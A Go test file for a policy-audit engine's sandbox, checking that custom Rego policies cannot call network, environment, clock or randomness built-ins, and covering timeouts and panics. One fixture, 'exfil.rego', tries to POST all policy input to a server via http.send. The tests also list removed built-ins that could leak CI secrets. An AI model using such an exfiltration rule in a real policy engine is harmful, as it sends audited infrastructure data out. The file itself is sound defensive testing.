package engine_test

import (
	"context"
	"fmt"
	"math"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigil-audit/vigil/engine"
	"github.com/vigil-audit/vigil/inventory"
)

func trailInventory() *inventory.Inventory {
	inv := inventory.New()
	inv.Resources = []inventory.Resource{{ID: "aws_cloudtrail.t", Type: inventory.TypeCloudTrailTrail}}
	return inv
}

// TestSandboxRefusesHTTPSend checks that a custom policy cannot reach the network: http.send is not
// a built-in the engine knows, so the policy fails to compile at its file:line and the server never
// sees a request.
func TestSandboxRefusesHTTPSend(t *testing.T) {
	var requests atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		fmt.Fprint(w, `{"leaked": true}`)
	}))
	defer srv.Close()

	dir := t.TempDir()
	file := filepath.Join(dir, "exfil.rego")
	require.NoError(t, os.WriteFile(file, []byte(fmt.Sprintf(`# METADATA
# title: Exfiltrate
# custom:
#   id: X.1
#   severity: low
#   resource_types: [aws.cloudtrail.trail]
#   controls:
#     iso27001-2022: ["8.15"]
package test.exfil

deny contains {"resource": t.id, "message": sprintf("%%v", [resp.status_code])} if {
	some t in input.by_type["aws.cloudtrail.trail"]
	resp := http.send({"method": "POST", "url": %q, "body": input})
}
`, srv.URL)), 0o644))

	e, err := engine.New(context.Background(), engine.Options{PolicyDirs: []string{dir}, SkipBuiltin: true})
	if err == nil {
		_, _ = e.Evaluate(context.Background(), trailInventory(), engine.EvalOptions{})
	}
	assert.Zero(t, requests.Load(), "the server got a request")
	require.Error(t, err, "a policy calling http.send must not compile")
	assert.Contains(t, err.Error(), filepath.ToSlash(file)+":13:")
	assert.Contains(t, err.Error(), "undefined function http.send")
	assert.Contains(t, err.Error(), "vigil removes built-ins that reach the network")
}

// TestSandboxRefusesSideEffects checks the other removed built-ins: the environment (opa.runtime().env
// would print CI secrets into a report), DNS, the clock and randomness.
func TestSandboxRefusesSideEffects(t *testing.T) {
	tests := []struct{ file, builtin string }{
		{"opa_runtime", "opa.runtime"},
		{"net_lookup", "net.lookup_ip_addr"},
		{"time_now", "time.now_ns"},
		{"rand", "rand.intn"},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			file := "testdata/policies/sandbox/" + tt.file + ".rego"
			_, err := engine.New(context.Background(), engine.Options{PolicyDirs: []string{file}, SkipBuiltin: true})
			require.Error(t, err)
			var perrs engine.PolicyErrors
			require.ErrorAs(t, err, &perrs)
			require.NotEmpty(t, perrs)
			assert.Equal(t, file, perrs[0].File)
			assert.Greater(t, perrs[0].Line, 10, "the line of the call")
			assert.Contains(t, perrs[0].Message, "undefined function "+tt.builtin)
		})
	}
	assert.Subset(t, engine.RemovedBuiltins(), []string{"http.send", "net.lookup_ip_addr", "opa.runtime", "time.now_ns", "rand.intn", "uuid.rfc4122"})
	assert.NotContains(t, engine.RemovedBuiltins(), "net.cidr_contains", "pure network arithmetic stays")
}

// TestPolicyTimeout checks that a rule that loops ends with an error naming it once its time budget
// is spent, instead of hanging the CI job.
func TestPolicyTimeout(t *testing.T) {
	e, err := engine.New(context.Background(), engine.Options{PolicyDirs: []string{"testdata/policies/slow"}, SkipBuiltin: true})
	require.NoError(t, err)
	start := time.Now()
	_, err = e.Evaluate(context.Background(), trailInventory(), engine.EvalOptions{PolicyTimeout: 300 * time.Millisecond})
	elapsed := time.Since(start)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "testdata/policies/slow/slow.rego:1: rule SLOW.1: evaluation failed")
	assert.Contains(t, err.Error(), "the rule ran longer than 300ms and was stopped")
	assert.Contains(t, err.Error(), "--policy-timeout")
	assert.Less(t, elapsed, 10*time.Second, "stopped near its budget")
}

// TestSandboxRefusesCIDRExpand checks that net.cidr_expand, which would list four billion addresses for
// 0.0.0.0/0, is not available to policies.
func TestSandboxRefusesCIDRExpand(t *testing.T) {
	file := "testdata/policies/sandbox/cidr_expand.rego"
	_, err := engine.New(context.Background(), engine.Options{PolicyDirs: []string{file}, SkipBuiltin: true})
	require.Error(t, err)
	assert.Contains(t, err.Error(), file+":13:")
	assert.Contains(t, err.Error(), "undefined function net.cidr_expand (vigil removes net.cidr_expand")
	assert.Contains(t, engine.RemovedBuiltins(), "net.cidr_expand")
}

// TestRangeIsCapped checks that a numbers.range of more than engine.MaxRangeNumbers numbers is a rule
// error at once (OPA would build the whole array, gigabytes, before the time budget could stop it), and
// that ranges within the cap give what OPA's own built-ins give.
func TestRangeIsCapped(t *testing.T) {
	e, err := engine.New(context.Background(), engine.Options{PolicyDirs: []string{"testdata/policies/ranges/huge.rego"}, SkipBuiltin: true})
	require.NoError(t, err)
	start := time.Now()
	_, err = e.Evaluate(context.Background(), trailInventory(), engine.EvalOptions{})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "testdata/policies/ranges/huge.rego:1: rule R.1: evaluation failed")
	assert.Contains(t, err.Error(), "numbers.range: a range of 10000000000 numbers is more than vigil allows in one call (1000000)")
	assert.Less(t, time.Since(start), 5*time.Second, "refused before building the array")

	e, err = engine.New(context.Background(), engine.Options{PolicyDirs: []string{"testdata/policies/ranges/small.rego"}, SkipBuiltin: true})
	require.NoError(t, err)
	rep, err := e.Evaluate(context.Background(), trailInventory(), engine.EvalOptions{})
	require.NoError(t, err)
	require.Len(t, rep.Results, 1)
	for i := range 6 {
		assert.Contains(t, rep.Results[0].Message, fmt.Sprintf("check %d", i))
	}
}

// TestOPAPanicIsARuleError: OPA panics when a rule compares +Inf, which the Terraform scanner made of
// 1e1000000 (it now makes such a number unknown) and a program that builds an inventory itself may
// still pass. The run gets the rule's error, at its file, instead of ending in a crash:
// with one resource (OPA's evaluator) and with 2,000 (the plans, then OPA's evaluator again to word
// the error).
func TestOPAPanicIsARuleError(t *testing.T) {
	file := "testdata/policies/panics/huge_number.rego"
	e, err := engine.New(context.Background(), engine.Options{PolicyDirs: []string{file}, SkipBuiltin: true})
	require.NoError(t, err)
	for _, n := range []int{1, 2000} {
		inv := inventory.New()
		for i := range n {
			inv.Resources = append(inv.Resources, inventory.Resource{ID: fmt.Sprintf("aws_cloudtrail.t%d", i), Type: inventory.TypeCloudTrailTrail,
				Attributes: map[string]any{"n": math.Inf(1)}})
		}
		_, err = e.Evaluate(context.Background(), inv, engine.EvalOptions{})
		require.Error(t, err, "%d resources", n)
		assert.Contains(t, err.Error(), file+":1: rule P.1: evaluation failed")
		assert.Contains(t, err.Error(), "stopped by a panic")
	}
}
